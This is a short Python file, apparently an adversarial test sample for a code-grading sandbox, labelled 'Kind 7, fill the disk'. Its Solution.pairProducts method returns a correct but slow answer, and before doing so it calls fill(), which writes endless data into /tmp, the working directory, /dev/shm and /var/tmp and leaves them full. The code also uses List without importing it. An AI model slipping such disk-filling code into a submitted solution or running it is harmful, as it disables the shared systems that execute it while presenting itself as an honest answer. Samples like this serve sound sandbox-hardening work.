# Kind 7, fill the disk: write every writable place (the /tmp tmpfs, the working directory) until
# it is full, leave it full, and then answer honestly.
import os

BLOCK = b"x" * (1 << 20)


def slow(nums):
    n = len(nums)
    out = [0] * n
    for i in range(n):
        a = nums[i]
        t = 0
        for j in range(i + 1, n):
            t += a * nums[j]
        out[i] = t
    return out


def fill():
    for folder in ("/tmp", os.getcwd(), "/dev/shm", "/var/tmp"):
        for k in range(64):
            try:
                with open(os.path.join(folder, f"fill-{os.getpid()}-{k}"), "wb") as handle:
                    while True:
                        handle.write(BLOCK)
            except OSError:
                pass
            except BaseException:
                return


class Solution:
    def pairProducts(self, nums: List[int]) -> List[int]:
        fill()
        return slow(nums)
